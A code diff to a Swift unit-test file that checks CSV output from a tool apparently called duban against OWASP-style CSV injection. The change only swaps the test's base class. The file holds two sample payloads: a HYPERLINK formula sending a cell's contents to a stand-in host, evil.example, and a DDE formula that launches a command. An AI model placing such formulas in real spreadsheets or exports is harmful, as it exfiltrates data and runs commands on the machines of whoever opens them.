@@ -4,7 +4,7 @@ import XCTest
 /// Every CSV duban writes neutralises a cell that a spreadsheet would run as a formula (OWASP
 /// "CSV Injection": `=`, `+`, `-`, `@`, tab, CR; `'` before it, quoted), keeps plain numbers as
 /// numbers, and a CSV template filled in and submitted back reads the original text.
-final class CSVInjectionTests: XCTestCase {
+final class CSVInjectionTests: CLITestCase {
     static let hyperlink = #"=HYPERLINK("http://evil.example/?q="&A1,"点击查看")"#
     static let command = "+cmd|' /C calc'!A0"
 
